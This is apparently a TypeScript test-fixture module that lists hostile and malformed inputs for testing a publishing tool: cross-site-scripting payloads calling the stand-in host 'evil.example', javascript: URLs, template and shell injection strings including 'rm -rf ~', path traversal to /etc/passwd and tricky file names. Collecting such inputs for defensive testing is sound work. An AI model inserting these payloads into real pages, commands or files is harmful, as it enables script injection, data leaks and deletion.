/**
 * Values that nobody means well with, or that somebody pastes by mistake.
 *
 * @module
 */

/** A host that nothing of a published page may load from. */
export const EVIL = "evil.example";

const LONG = 20_000;

/** Texts, by what is wrong with them. */
export const TEXTS: Readonly<Record<string, string>> = {
  "one long word": "W".repeat(LONG),
  "a long text": "so many words ".repeat(LONG / 10),
  "a name of 300 characters": "n".repeat(300),
  "marks upon marks": `a${"\u0301".repeat(LONG)}`,
  "wide characters": "漢".repeat(5000),
  "an emoji of many": "👩‍👩‍👧‍👦".repeat(500),
  "half a character": "x\ud800y",
  "the other half": "\udc00",
  "control characters": "a\u0001b\u0008c\u001bd\u007fe\u0085f",
  NUL: "a\u0000b",
  "no character": "\uffff\ufffe",
  "line ends": "a\nb\rc\u2028d\u2029e\ff\vg",
  directions: "a\u202eb\u2066c\u2069d\u200fe",
  "nothing that is seen": "\u200b\u200d\ufeff\u00ad",
  "white space": " \t\u00a0\u3000 ",
  nothing: "",
  "a script": `</script><script>import("//${EVIL}/a.js")</script>`,
  "a handler": `"'><img src=x onerror="fetch('//${EVIL}')">`,
  "an SVG that runs": `<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
  "a style": `</style><style>@import url(//${EVIL}/a.css);</style>`,
  "a comment": `--><iframe src="https://${EVIL}"></iframe><!--`,
  CDATA: `]]><b>x</b>`,
  "a template": "{{constructor.constructor('alert(1)')()}}\u0024{process.env}<%= 1 %>",
  "a shell's": "$(touch /tmp/x) `id` ; rm -rf ~ \\ \" ' | & * ?",
  TeX: "\\input{/etc/passwd} {$^_%~#&}",
  "a formula": `=HYPERLINK("https://${EVIL}","x")`,
  Markdown: `[a](javascript:alert(1)) ![b](https://${EVIL}/p.png) <a href="data:text/html,x">c</a> \`d\``,
  "javascript:": "javascript:alert(1)",
  "a script's URL with a tab": "java\tscript:alert(1)",
  "a script's URL with a control character": "\u0001javascript:alert(1)",
  "a script's URL in capitals": "JAVASCRIPT://%0aalert(1)",
  "data:": "data:text/html,<script>alert(1)</script>",
  "vbscript:": "vbscript:msgbox(1)",
  "a URL without its scheme": `//${EVIL}/x`,
  "a backslashed URL": `https:\\\\${EVIL}\\x`,
  "a URL with a quote": `https://${EVIL}/"onmouseover="alert(1)`,
  "a URL with a line end": `https://${EVIL}/a\nb`,
  "a broken URL": "https://[::1/%",
  "a URL without a host": "https://",
  "a port too large": `https://${EVIL}:99999/`,
  "a long URL": `https://${EVIL}/${"a".repeat(LONG)}`,
  "a percent": "%",
  "half an octet": "%E0%A4%A",
  "an octet that ends texts": "a%00b",
  "the folder above": "../../../../etc/passwd",
  "an absolute path": "/etc/passwd",
  "a path for Windows": "C:\\con\\aux",
  "a key of every object": "__proto__",
  "a method of every object": "constructor",
  "a number": "1e999",
  "no date": "2026-02-30",
  "year 0": "0000-00-00",
  "the last date": "9999-12-31",
  "a date before Christ": "-0044-03-15",
  brackets: "[".repeat(3000),
  stars: "*a **b ".repeat(3000),
  backticks: "`".repeat(5000),
  "a pointer": "#/assertion/__proto__",
  itself: "#",
};

const nested = (depth: number): unknown => {
  let value: unknown = "x";
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
};

/** Values of other types. */
export const VALUES: Readonly<Record<string, unknown>> = {
  null: null,
  true: true,
  "an empty list": [],
  "an empty object": {},
  "a large number": 1e308,
  "a number beyond": 2 ** 53 + 2,
  "a negative number": -1,
  "a fraction": 0.1,
  "a deep value": nested(300),
  "a list of many": Array.from({ length: 3000 }, (_, index) => `item ${index}`),
  "an object of many": Object.fromEntries(
    Array.from({ length: 3000 }, (_, index) => [`key${index}`, index]),
  ),
};

/** Names of files. */
export const NAMES: readonly string[] = [
  "con",
  "aux.txt",
  "COM1.cwl",
  "ends.",
  "ends ",
  " starts",
  "a b.txt",
  "a#b?c&d.txt",
  "%2e%2e.txt",
  "%.txt",
  "%E0%A4%A.txt",
  "é.txt",
  "e\u0301.txt",
  "<img src=x onerror=alert(1)>.txt",
  "\u202etxt.exe",
  "\u200b.txt",
  "-rf",
  "a'b\"c.txt",
  "index.html",
  "index.json",
  "README",
  "a:b.txt",
  `${"n".repeat(240)}.txt`,
  `${"漢".repeat(80)}.txt`,
  `${"d/".repeat(300)}x.txt`,
  "a\nb.txt",
  "a\\b.txt",
  "__proto__",
  "constructor",
  "{a,b}*.txt",
  "[slug].txt",
  "~",
  "..a",
  ".hidden",
  "a/con/b.txt",
  "README.MD",
  "logo.svg",
  "CITATION.CFF",
  "\ud800.txt",
];
